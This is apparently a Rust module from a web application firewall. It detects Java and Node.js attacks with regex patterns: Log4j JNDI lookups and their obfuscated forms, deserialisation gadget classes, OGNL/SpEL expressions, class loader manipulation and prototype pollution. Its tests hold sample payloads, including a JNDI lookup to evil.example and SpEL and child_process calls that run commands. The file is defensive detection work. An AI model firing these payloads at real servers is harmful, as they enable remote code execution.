//! Java attacks: Log4j/JNDI lookups (including nested and case-changing obfuscation), sensitive
//! class and gadget names, serialised objects, OGNL/EL/SpEL expressions with method calls, class
//! loader manipulation; plus Node.js prototype pollution and server-side JavaScript.

use super::{Patterns, Sink};
use crate::normalise::Variants;
use crate::rules::*;
use crate::settings::WafError;

pub(crate) struct Java {
    pub(super) patterns: Patterns,
    names: Patterns,
}

impl Java {
    pub(crate) fn new() -> Result<Self, WafError> {
        let patterns = Patterns::new(&[
            (JAVA_JNDI, r"\$\{[^}]{0,60}\$\{"),
            (
                JAVA_JNDI,
                r"\$\{\s*(?:jndi|ldap|ldaps|rmi|dns|iiop|corba|nds|nis|lower|upper|env|sys|date|java|main|bundle|ctx|docker|k8s|log4j|spring|web|marker|sd|map|base64|event|jvmrunargs)\s*:",
            ),
            (
                JAVA_JNDI,
                r"\bjndi\s*:\s*(?:ldap|ldaps|rmi|dns|iiop|corba|nds|nis|http)s?:",
            ),
            (
                JAVA_CLASS,
                r"\b(?:java|javax|jdk|sun|com\.sun)\.(?:lang|io|net|nio|util|beans|rmi|security|sql|script|naming|management|xml|reflect|misc|invoke)\.[a-z]",
            ),
            (
                JAVA_CLASS,
                r"\b(?:processbuilder|processimpl|runtime\s*\.\s*getruntime|getruntime\s*\(|invokertransformer|chainedtransformer|constanttransformer|instantiatetransformer|instantiatefactory|templatesimpl|jdbcrowsetimpl|unicastref|unicastremoteobject|scriptenginemanager|urlclassloader|bytearrayinputstream|objectinputstream|xstream|org\.apache\.commons\.collections|org\.apache\.xalan|org\.springframework\.|org\.codehaus\.groovy|com\.mchange\.v2|bsh\.interpreter|java\.lang\.reflect|sun\.misc\.unsafe)",
            ),
            (JAVA_CLASS, r#"["']@type["']\s*:\s*["'][a-z]"#),
            (
                JAVA_DESERIALISATION,
                r"\bro0ab|\baced0005|\\xac\\xed\\x00\\x05|\xac\xed\x00\x05|\bh4siaaaaaaaa[a-z0-9+/]{0,8}ro0",
            ),
            (JAVA_EXPRESSION, r"%\{[^}]{0,200}(?:\(|@|#|\bnew\s)"),
            (JAVA_EXPRESSION, r"#\{[^}]{0,200}\("),
            (
                JAVA_EXPRESSION,
                r"\$\{[^}]{0,200}(?:\(|\bnew\s|@java|\bt\s*\()",
            ),
            (
                JAVA_EXPRESSION,
                r"#_memberaccess|@ognl|\bognlcontext\b|#context\s*\[|#(?:request|session|application|parameters|attr)\s*\[|\bt\s*\(\s*java\.|@java\.lang\.|\.getclass\s*\(\s*\)|\.forname\s*\(|\.getmethod\s*\(|\.invoke\s*\(|\.newinstance\s*\(|\.getdeclared(?:method|field|constructor)s?\s*\(",
            ),
            (
                JAVA_CLASSLOADER,
                r"\bclass\s*\.\s*(?:module\s*\.\s*)?classloader\b|\[\s*['\x22]?class['\x22]?\s*\]\s*\[\s*['\x22]?(?:module|classloader)|\.getclassloader\s*\(|\bclassloader\s*\.\s*(?:resources|urls|parent)",
            ),
            (
                NODE_PROTOTYPE,
                r"__proto__|\bconstructor\s*(?:\.|\[\s*['\x22]?)\s*prototype\b",
            ),
            (
                NODE_INJECTION,
                r"\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|kill|exit|dlopen)\b|\brequire\s*\(\s*['\x22`](?:child_process|fs|net|vm|os|http|cluster|worker_threads)['\x22`]|\bglobal\s*\.\s*process\b|\bthis\s*\.\s*constructor\s*\.\s*constructor\b|\bnew\s+function\s*\(|\bmodule\s*\.\s*(?:constructor|require)\b",
            ),
            (
                NODE_INJECTION,
                r"\bwhile\s*\(\s*(?:true|1|!0|!nan|!false|!!1)\s*\)|\bfor\s*\(\s*;\s*;\s*\)|\bbuffer\s*\(\s*[0-9]{6,}|\.repeat\s*\(\s*[0-9]{7,}",
            ),
            (JAVA_LOOKUP_LOOSE, r"\$\{[a-z:-]{1,30}|%\{[a-z]|#\{[a-z]"),
        ])?;
        let names = Patterns::new(&[(NODE_PROTOTYPE, r"^(?:__proto__|prototype)$")])?;
        Ok(Self { patterns, names })
    }

    pub(crate) fn scan(&self, v: &Variants, sink: &mut Sink<'_>, lower_may_match: bool) {
        if lower_may_match {
            self.patterns.scan(&v.lower, sink);
        }
        // Lookups hidden by case tricks and empty defaults: `${${::-j}${::-n}di:` → `jndi:`.
        if sink.wants(JAVA_JNDI) && v.lower.contains("${") {
            let flat = flatten_lookups(&v.lower);
            if flat.contains("jndi:") {
                sink.hit(JAVA_JNDI, &v.lower, v.lower.find("${").unwrap_or(0));
            }
        }
    }

    /// Names (JSON keys, parameter names): prototype pollution through nested keys.
    pub(crate) fn scan_name(&self, v: &Variants, sink: &mut Sink<'_>) {
        self.names.scan(&v.lower, sink);
    }
}

/// Removes lookup syntax (`${`, `}`, `lower:`, `upper:`, `::-`, `env:x:-`) so nested Log4j
/// lookups read as the word they spell. Single pass, output never longer than input.
fn flatten_lookups(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while !rest.is_empty() {
        if let Some(r) = rest.strip_prefix("${") {
            // Drop a function prefix like `lower:`, `upper:`, `::-`, `env:name:-`.
            let end = r.find(['}', '$']).unwrap_or(r.len());
            let inner = &r[..end];
            let keep_from = inner
                .rfind(":-")
                .map(|i| i + 2)
                .or_else(|| inner.rfind(':').map(|i| i + 1))
                .unwrap_or(0);
            if inner[..keep_from].contains("jndi") {
                out.push_str("jndi:");
            }
            out.push_str(&inner[keep_from..]);
            rest = &r[end..];
        } else if let Some(r) = rest.strip_prefix('}') {
            rest = r;
        } else {
            let mut chars = rest.chars();
            if let Some(c) = chars.next() {
                out.push(c);
            }
            rest = chars.as_str();
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{families, flags, hits};
    use crate::extract::Kind;

    #[test]
    fn detects_java_attacks() {
        flags(
            "java",
            &[
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:ldap://x/a}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
                "java.lang.Runtime",
                "ProcessBuilder.evil.instantiatetransformer",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            ],
        );
    }

    #[test]
    fn detects_prototype_pollution() {
        assert!(families("__proto__[admin]=1").contains(&"node"));
        assert!(families("constructor[prototype][x]=1").contains(&"node"));
        assert!(families("require('child_process').exec('id')").contains(&"node"));
        assert!(hits(Kind::Name, "json:/a/prototype", "prototype", 1).contains(&NODE_PROTOTYPE));
    }

    #[test]
    fn leaves_ordinary_text_alone() {
        for p in [
            "I like Java and coffee",
            "price is ${amount}",
            "#{hashtag} party",
            "the constructor of the house",
            "java.com",
        ] {
            let f = families(p);
            assert!(!f.contains(&"java") && !f.contains(&"node"), "{p}: {f:?}");
        }
        assert_eq!(flatten_lookups("${${lower:j}ndi:x}"), "jndi:x");
    }
}
